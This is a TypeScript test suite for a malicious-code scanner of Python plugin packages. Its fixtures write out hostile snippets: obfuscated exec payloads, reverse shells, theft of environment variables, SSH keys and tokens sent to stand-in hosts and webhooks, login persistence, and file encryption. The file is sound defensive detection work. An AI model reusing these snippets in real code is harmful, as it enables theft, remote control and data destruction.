import { type Files, scanned } from '../__fixtures__/scanned.js';

type Pack = readonly [rule: string, what: string, sources: string | Files];

const DECODED = 'exec(base64.b64decode("cHJpbnQoMSk="))';

const MUST_FIND: readonly Pack[] = [
  ['runs_hidden_code', 'decoded text', `import base64\n${DECODED}\n`],
  [
    'runs_hidden_code',
    'other names',
    'import base64 as b\nfrom builtins import exec as e\nx = b.b64decode("eA==")\ny = x\ne(y)\n',
  ],
  [
    'runs_hidden_code',
    'all names of a module',
    'from zlib import *\nfrom base64 import *\nexec(decompress(b85decode("x")))\n',
  ],
  [
    'runs_hidden_code',
    'a lambda',
    'import zlib,base64\n_ = lambda __ : zlib.decompress(base64.b64decode(__[::-1]))\nexec((_)(b"x=="))\n',
  ],
  [
    'runs_hidden_code',
    'functions',
    'import binascii\ndef d(s):\n    r = binascii.unhexlify(s)\n    return r.decode()\ndef run(c):\n    exec(c, {})\nrun(d("70"))\n',
  ],
  [
    'runs_hidden_code',
    'a method',
    'import gzip\nclass L:\n    def __init__(self, b):\n        self.code = gzip.decompress(b)\n    def go(self):\n        eval(compile(self.code, "x", "exec"))\nL(b"").go()\n',
  ],
  [
    'runs_hidden_code',
    'getattr',
    'import builtins, lzma\ngetattr(builtins, "ex" + "ec")(lzma.decompress(b""))\n',
  ],
  ['runs_hidden_code', 'the dict of built-in functions', '__builtins__["exec"](bytes.fromhex("70"))\n'],
  ['runs_hidden_code', 'numbers', 'exec("".join(chr(c) for c in [112, 114]))\n'],
  ['runs_hidden_code', 'bytes of numbers', 'exec(bytes([112, 114, 105]).decode())\n'],
  ['runs_hidden_code', 'map and chr', 'exec("".join(map(chr, [112, 114])))\n'],
  ['runs_hidden_code', 'exclusive or', 'k = 7\ndata = b"abc"\nout = bytes(b ^ k for b in data)\nexec(out)\n'],
  [
    'runs_hidden_code',
    'a loop of exclusive or',
    'out = ""\nfor c in "abc":\n    out += chr(ord(c) ^ 3)\nexec(out)\n',
  ],
  ['runs_hidden_code', 'rot13', 'import codecs\nexec(codecs.decode("cevag(1)", "rot13"))\n'],
  ['runs_hidden_code', 'reversed text', 'exec(")1(tnirp"[::-1])\n'],
  ['runs_hidden_code', 'joined text', 'exec("".join(["import o", "s"]))\n'],
  [
    'runs_hidden_code',
    'decryption',
    'from cryptography.fernet import Fernet\nexec(Fernet(b"k").decrypt(b"x"))\n',
  ],
  [
    'runs_hidden_code',
    'a thread',
    'import threading, base64\nthreading.Thread(target=exec, args=(base64.b64decode("x"),)).start()\n',
  ],
  ['runs_hidden_code', 'map', 'import base64\nlist(map(exec, [base64.b64decode("x")]))\n'],
  [
    'runs_hidden_code',
    'letters of other shapes',
    'import base64\n\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(base64.b64decode("x"))\n',
  ],
  [
    'runs_hidden_code',
    'either way',
    'import base64, sys\nif sys.argv:\n    c = base64.b64decode("x")\nelse:\n    c = "1"\nexec(c)\n',
  ],
  [
    'runs_hidden_code',
    'another file',
    {
      '__init__.py': 'from .a import load\nexec(load())\n',
      'a.py': 'import base64\ndef load():\n    return base64.b64decode("x")\nexec\n',
    },
  ],
  [
    'runs_hidden_code',
    'a picture',
    'from PIL import Image\npx = Image.open("a.png").getdata()\nexec(bytes((p[0] & 15) << 4 | (p[1] >> 4) for p in px))\n',
  ],
  [
    'runs_downloaded_code',
    'a request',
    'import requests\nexec(requests.get("https://example.org/a").text)\n',
  ],
  [
    'runs_downloaded_code',
    'urllib',
    'from urllib.request import urlopen as u\ncode = u("https://example.org/a").read().decode()\neval(compile(code, "a", "exec"))\n',
  ],
  [
    'runs_downloaded_code',
    'a session that waits',
    'import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get("https://example.org") as r:\n            exec(await r.text())\n',
  ],
  [
    'runs_downloaded_code',
    'a pickle',
    'import pickle, requests\npickle.loads(requests.get("https://example.org").content)\n',
  ],
  [
    'runs_downloaded_code',
    'a socket',
    'import socket\ns = socket.socket()\ns.connect(("example.org", 1))\nexec(s.recv(9))\n',
  ],
  [
    'runs_data_as_code',
    'bytes of a file',
    'import os\np = os.path.join(os.path.dirname(__file__), "logo.png")\nexec(open(p, "rb").read())\n',
  ],
  ['runs_data_as_code', 'a text file', 'with open("notes.txt") as f:\n    exec(f.read())\n'],
  [
    'runs_data_as_code',
    'a path',
    'from pathlib import Path\nexec((Path(__file__).parent / "data.bin").read_bytes())\n',
  ],
  ['runs_compiled_code', 'marshal', 'import marshal\nexec(marshal.loads(b"\\xe3"))\n'],
  ['hides_names', 'an import', 'm = __import__("o" + "s")\nm.system\n'],
  ['hides_names', 'reversed', 'import importlib\nimportlib.import_module("ssecorpbus"[::-1])\n'],
  [
    'hides_names',
    'decoded',
    'import base64, importlib\ns = importlib.import_module(base64.b64decode("c3VicHJvY2Vzcw==").decode())\n',
  ],
  ['hides_names', 'a function', 'import os\ngetattr(os, "sys" + "tem")("id")\n'],
  [
    'hides_names',
    'unknown names',
    'import builtins, base64\ngetattr(builtins, base64.b85decode("x").decode())("1")\n',
  ],
  ['hides_names', 'format', '__import__("{}{}".format("sock", "et"))\n'],
  ['hides_names', 'escapes', '__import__("\\x6f\\x73").popen("id")\n'],
  [
    'route_runs_code',
    'a route of the host',
    'from server import PromptServer\n@PromptServer.instance.routes.post("/x")\nasync def h(request):\n    data = await request.json()\n    exec(data["code"])\n',
  ],
  [
    'route_runs_code',
    'a router',
    'from aiohttp import web\nasync def h(req):\n    return eval(req.query["q"])\ndef setup(app):\n    app.router.add_get("/x", h)\n',
  ],
  [
    'route_starts_program',
    'a shell',
    'import os\nfrom server import PromptServer\nroutes = PromptServer.instance.routes\n@routes.get("/run")\nasync def h(request):\n    os.system(request.query.get("cmd"))\n',
  ],
  [
    'route_starts_program',
    'an argument list',
    'import subprocess\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/run")\nasync def h(request):\n    d = await request.json()\n    return subprocess.run(d["cmd"], shell=True, capture_output=True).stdout\n',
  ],
  [
    'route_passes_arguments',
    'a fixed program',
    'import subprocess\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/run")\nasync def h(request):\n    d = await request.json()\n    subprocess.run(["ffmpeg", "-i", d["file"]])\n',
  ],
  [
    'starts_hidden_program',
    'a decoded command',
    'import os, base64\nos.system(base64.b64decode("aWQ=").decode())\n',
  ],
  [
    'starts_hidden_program',
    'through functions',
    'import subprocess, zlib\ndef t(x):\n    return zlib.decompress(x).decode()\nc = t(b"x")\nsubprocess.Popen(c, shell=True)\n',
  ],
  [
    'starts_downloaded_program',
    'urlretrieve',
    'import urllib.request, os\np = "/tmp/upd"\nurllib.request.urlretrieve("https://example.org/a", p)\nos.chmod(p, 0o755)\nos.system(p)\n',
  ],
  [
    'starts_downloaded_program',
    'written and started',
    'import requests, subprocess, tempfile, os\nr = requests.get("https://example.org/a.exe")\np = os.path.join(tempfile.gettempdir(), "svchost.exe")\nwith open(p, "wb") as f:\n    f.write(r.content)\nsubprocess.Popen([p])\n',
  ],
  [
    'starts_downloaded_program',
    'a helper',
    'import requests, os\ndef fetch(url, dest):\n    with open(dest, "wb") as f:\n        for c in requests.get(url, stream=True).iter_content(9):\n            f.write(c)\ntarget = "u.exe"\nfetch("https://example.org", target)\nos.startfile(target)\n',
  ],
  [
    'starts_downloaded_program',
    'a script',
    'import requests, subprocess, sys\nopen("/tmp/a.py", "w").write(requests.get("https://example.org").text)\nsubprocess.run([sys.executable, "/tmp/a.py"])\n',
  ],
  [
    'starts_downloaded_program',
    'a library',
    'import requests, ctypes\nfrom pathlib import Path\np = Path("a.so")\np.write_bytes(requests.get("https://example.org").content)\nctypes.CDLL(str(p))\n',
  ],
  [
    'runs_received_commands',
    'a socket',
    'import socket, subprocess\ns = socket.create_connection(("example.org", 1))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))\n',
  ],
  [
    'runs_received_commands',
    'a request',
    'import os, requests\nos.system(requests.get("https://example.org/cmd").text)\n',
  ],
  [
    'reverse_shell',
    'dup2',
    'import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",4))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")\n',
  ],
  [
    'reverse_shell',
    'descriptors of a program',
    'import socket as k, subprocess as sp\ns = k.socket()\ns.connect(("192.0.2.1", 4))\nsp.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno())\n',
  ],
  [
    'installs_foreign_package',
    'an index',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--extra-index-url", "http://192.0.2.1/simple", "x"])\n',
  ],
  [
    'installs_foreign_package',
    'a wheel',
    'import os\nos.system("pip install https://files.example.net/x-1.0-py3-none-any.whl")\n',
  ],
  [
    'installs_foreign_package',
    'a helper',
    'import subprocess, sys\ndef pip(*a):\n    subprocess.run([sys.executable, "-m", "pip", "install", *a])\ndef go(url):\n    subprocess.run([sys.executable, "-m", "pip", "install", url])\ngo("git+https://git.example.net/x")\n',
  ],
  [
    'installs_by_itself',
    'from the index',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])\n',
  ],
  [
    'sends_environment',
    'as JSON',
    'import os, requests, json\nrequests.post("https://example.org", data=json.dumps(dict(os.environ)))\n',
  ],
  [
    'sends_environment',
    'as address',
    'import os\nfrom urllib import request, parse\nq = parse.urlencode({k: v for k, v in os.environ.items()})\nrequest.urlopen("https://example.org/?" + q)\n',
  ],
  [
    'sends_environment',
    'of another file',
    {
      'a.py': 'import os\ndef gather():\n    return {"e": {**os.environ}}\n',
      '__init__.py': 'import httpx\nfrom . import a\nhttpx.post("https://example.org", json=a.gather())\n',
    },
  ],
  [
    'sends_environment',
    'by a socket',
    'import os, socket\ns = socket.socket()\ns.sendall(str(os.environ).encode())\n',
  ],
  [
    'sends_secrets',
    'a key file',
    'import os, requests\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n    requests.post("https://example.org", data={"k": f.read()})\n',
  ],
  [
    'sends_secrets',
    'a path in parts',
    'import os, urllib.request\np = os.path.join(os.path.expanduser("~"), ".aws", "credentials")\nd = open(p, "rb").read()\nurllib.request.urlopen(urllib.request.Request("https://example.org", data=d))\n',
  ],
  [
    'sends_secrets',
    'a list of places',
    'import requests\nfrom pathlib import Path\nfor n in (".netrc", ".git-credentials"):\n    p = Path.home() / n\n    if p.exists():\n        requests.put("https://example.org", data=p.read_bytes())\n',
  ],
  [
    'sends_secrets',
    'the token of a hub',
    'import os, requests\nt = open(os.path.expanduser("~/.cache/huggingface/token")).read()\nrequests.get("https://example.org/?t=" + t)\n',
  ],
  [
    'sends_what_it_watches',
    'the screen',
    'from PIL import ImageGrab\nimport requests, io\nb = io.BytesIO()\nimg = ImageGrab.grab()\nrequests.post("https://example.org", files={"f": img.tobytes()})\n',
  ],
  [
    'sends_what_it_watches',
    'the clipboard',
    'import pyperclip, requests\nrequests.post("https://example.org", json={"c": pyperclip.paste()})\n',
  ],
  [
    'sends_machine',
    'host and user',
    'import socket, getpass, requests\nrequests.get("https://example.org/p", params={"h": socket.gethostname(), "u": getpass.getuser()})\n',
  ],
  [
    'sends_machine',
    'to a collector',
    'import platform, urllib.request\nurllib.request.urlopen("https://x.oast.fun/" + platform.node())\n',
  ],
  [
    'sends_keys_away',
    'a key to a chat',
    'import os, requests\nrequests.post("https://discord.com/api/webhooks/1/a", json={"content": os.environ.get("HF_TOKEN")})\n',
  ],
  [
    'sends_prompts',
    'prompts to a chat',
    'import requests\nfrom server import PromptServer\ndef seen(data):\n    requests.post("https://api.telegram.org/bot1:a/sendMessage", json=data)\n    return data\nPromptServer.instance.add_on_prompt_handler(seen)\n',
  ],
  [
    'looks_up_computed_host',
    'the name of the machine',
    'import socket\nsocket.gethostbyname(socket.gethostname() + ".a.example.org")\n',
  ],
  [
    'looks_up_computed_host',
    'a key in the name',
    'import os, socket, base64\nd = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode()\nsocket.getaddrinfo(f"{d}.example.org", 80)\n',
  ],
  [
    'hides_address',
    'Base64',
    'import base64, requests\nrequests.get(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLm9yZy9h").decode())\n',
  ],
  [
    'replaces_host_node',
    'one node',
    'import nodes\nclass K: pass\nnodes.NODE_CLASS_MAPPINGS["KSampler"] = K\n',
  ],
  [
    'replaces_host_node',
    'an update',
    'from nodes import NODE_CLASS_MAPPINGS as M\nclass K: pass\nM.update({"LoadImage": K})\n',
  ],
  [
    'replaces_host_node',
    'by the table of modules',
    'import sys\nclass K: pass\nsys.modules["nodes"].NODE_CLASS_MAPPINGS["SaveImage"] = K\n',
  ],
  ['patches_host', 'a function', 'import execution\ndef f(*a): return 1\nexecution.validate_prompt = f\n'],
  [
    'patches_host_to_send',
    'a function that sends',
    'import execution, requests\nold = execution.validate_prompt\ndef f(*a):\n    requests.post("https://example.org", json=a)\n    return old(*a)\nexecution.validate_prompt = f\n',
  ],
  [
    'writes_other_package',
    'the manager',
    'import os\nhere = os.path.dirname(os.path.abspath(__file__))\np = os.path.join(here, "..", "ComfyUI-Manager", "__init__.py")\nopen(p, "a").write("x")\n',
  ],
  [
    'writes_other_package',
    'every package',
    'import os, folder_paths\nroot = folder_paths.get_folder_paths("custom_nodes")[0]\nfor d in os.listdir(root):\n    with open(os.path.join(root, d, "__init__.py"), "a") as f:\n        f.write("x")\n',
  ],
  [
    'writes_other_package',
    'the host',
    'import os\nroot = os.path.join(os.path.dirname(__file__), "..", "..")\nwith open(os.path.join(root, "main.py"), "w") as f:\n    f.write("x")\n',
  ],
  [
    'writes_other_package',
    'a deletion',
    'import shutil, os\nshutil.rmtree(os.path.join(os.path.dirname(__file__), "../ComfyUI-Impact-Pack"))\n',
  ],
  ['deletes_files', 'the home folder', 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n'],
  [
    'deletes_files',
    'encryption',
    'import os\nfrom cryptography.fernet import Fernet\nc = Fernet(Fernet.generate_key())\nfor r, d, fs in os.walk(os.path.expanduser("~")):\n    for f in fs:\n        p = os.path.join(r, f)\n        t = c.encrypt(open(p, "rb").read())\n        open(p, "wb").write(t)\n',
  ],
  [
    'starts_at_login',
    'a profile',
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("python3 /tmp/a.py &")\n',
  ],
  [
    'starts_at_login',
    'a folder',
    'from pathlib import Path\n(Path.home() / ".config" / "autostart" / "a.desktop").write_text("[Desktop Entry]")\n',
  ],
  [
    'starts_at_login',
    'cron',
    'import subprocess\nsubprocess.run("(crontab -l; echo x) | crontab -", shell=True)\n',
  ],
  [
    'starts_at_login',
    'the registry',
    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)\nwinreg.SetValueEx(k, "a", 0, 1, "a.exe")\n',
  ],
  [
    'collects_for_others',
    'by a helper',
    'import socket, notify\nHOOK = "https://discord.com/api/webhooks/1/a"\ninfo = {"h": socket.gethostname()}\nnotify.push(HOOK, info)\n',
  ],
  [
    'collects_for_others',
    'two files',
    {
      'a.py':
        'import requests\nU = "https://api.telegram.org/bot1:a/sendMessage"\ndef send(x):\n    requests.post(U, json=x)\n',
      'b.py': 'import os, subprocess\nd = open(os.path.expanduser("~/.ssh/id_ed25519")).read()\n',
    },
  ],
  ['escapes_by_subclasses', 'a tuple', 'c = ().__class__.__base__.__subclasses__()\n'],
];

const MUST_NOT_FIND: readonly (readonly [what: string, sources: string | Files])[] = [
  [
    'pictures in Base64',
    'import base64, io\nfrom PIL import Image\ndef f(s):\n    return Image.open(io.BytesIO(base64.b64decode(s)))\n',
  ],
  [
    'a model that is evaluated',
    'import torch, requests\nd = requests.get("https://example.org").json()\nm = torch.nn.Linear(1, 1)\nm.eval()\n',
  ],
  [
    'sums of a node',
    'class N:\n    def run(self, expression):\n        return (eval(expression, {"__builtins__": {}}),)\n',
  ],
  [
    'the version of a setup file',
    'import os\nns = {}\nwith open(os.path.join(os.path.dirname(__file__), "pack", "version.py")) as f:\n    exec(f.read(), ns)\n',
  ],
  [
    'modules of the package',
    'import importlib, os\nfor n in os.listdir(os.path.dirname(__file__)):\n    importlib.import_module("." + n[:-3], __name__)\n',
  ],
  [
    'a patch of built-in functions',
    'import builtins\nold = builtins.print\ndef p(*a):\n    old(*a)\nbuiltins.print = p\n',
  ],
  ['patterns that are compiled', 'import re, base64\nP = re.compile(base64.b64decode("x").decode())\n'],
  [
    'keys of an API',
    'import os, requests\nkey = os.environ.get("OPENAI_API_KEY")\nrequests.post("https://api.openai.com/v1/chat", headers={"Authorization": f"Bearer {key}"}, json={"m": 1})\n',
  ],
  [
    'the token of a hub by its variable',
    'import os, requests\nt = os.getenv("HF_TOKEN")\nrequests.get("https://huggingface.co/x", headers={"Authorization": "Bearer " + t})\n',
  ],
  [
    'the environment of a program',
    'import os, subprocess, requests\nenv = os.environ.copy()\nenv["A"] = "b"\nout = subprocess.run(["git", "pull"], env=env, capture_output=True).stdout\nrequests.get("https://example.org")\n',
  ],
  [
    'a message to a chat',
    'import requests\nclass Send:\n    def run(self, url, text):\n        requests.post("https://discord.com/api/webhooks/" + url, json={"content": text})\n',
  ],
  [
    'a video made by a known program',
    'import subprocess\ndef save(path, args):\n    cmd = ["ffmpeg", "-i", path] + args\n    subprocess.run(cmd, check=True)\n',
  ],
  [
    'a model that is downloaded',
    'import requests\ndef get(url, path):\n    with open(path, "wb") as f:\n        f.write(requests.get(url).content)\n',
  ],
  [
    'a downloaded video that is converted',
    'import urllib.request, subprocess\np = "/tmp/a.mp4"\nurllib.request.urlretrieve("https://example.org/a", p)\nsubprocess.run(["ffmpeg", "-i", p, "b.webm"])\n',
  ],
  [
    'a route that shows a folder',
    'import subprocess\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/open")\nasync def h(request):\n    d = await request.json()\n    subprocess.run(["open", d["path"]])\n',
  ],
  [
    'wheels of a known index',
    'import os, sys\nos.system(f"{sys.executable} -m pip install torch --index-url https://download.pytorch.org/whl/cu121")\n',
  ],
  [
    'a mirror of the index',
    'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "-i", "https://pypi.tuna.tsinghua.edu.cn/simple", "x"])\n',
  ],
  [
    'own nodes',
    'import nodes\nclass A: pass\nnodes.NODE_CLASS_MAPPINGS["My Sampler"] = A\nnodes.NODE_CLASS_MAPPINGS.update({"B": A})\n',
  ],
  ['a patch of the host', 'import comfy.model_management as mm\ndef f(): return 1\nmm.get_free_memory = f\n'],
  [
    'own folders',
    'import os, shutil\nhere = os.path.dirname(__file__)\nshutil.rmtree(os.path.join(here, "cache"))\nwith open(os.path.join(here, "config.json"), "w") as f:\n    f.write("{}")\n',
  ],
  [
    'a manager of packages',
    'import os, shutil, folder_paths\ndef remove(name):\n    shutil.rmtree(os.path.join(folder_paths.get_folder_paths("custom_nodes")[0], name))\n',
  ],
  [
    'a free port',
    'import socket\ns = socket.socket()\ns.bind(("", 0))\nip = socket.gethostbyname(socket.gethostname())\n',
  ],
  ['names only in comments', '# curl https://example.org/a | sh\n# xmrig, stratum+tcp://pool\nx = 1\n'],
  [
    'a name that is used again',
    'import base64, os\ndef f(p):\n    with open("a.bin", "rb") as g:\n        a = g.read()\n    with open("b.py") as g:\n        exec(g.read())\n',
  ],
];

describe('rules over Python', () => {
  it.each(MUST_FIND)('%s finds %s', async (rule, _what, sources) => {
    expect((await scanned(sources)).map(({ code }) => code)).toContain(rule);
  });

  it.each(MUST_NOT_FIND)('%s is no finding', async (_what, sources) => {
    expect((await scanned(sources)).filter(({ severity }) => severity !== 'note')).toEqual([]);
  });

  it('names the file, the lines and the text of what was found', async () => {
    expect(await scanned({ 'a/b.py': `import base64\n\n${DECODED}\n` })).toEqual([
      expect.objectContaining({
        path: 'a/b.py',
        lines: [3],
        excerpt: DECODED,
        severity: 'held',
        ruleVersion: 1,
      }),
    ]);
  });
});

export const PYTHON_RULES_WITH_PACKS = MUST_FIND.map(([rule]) => rule);
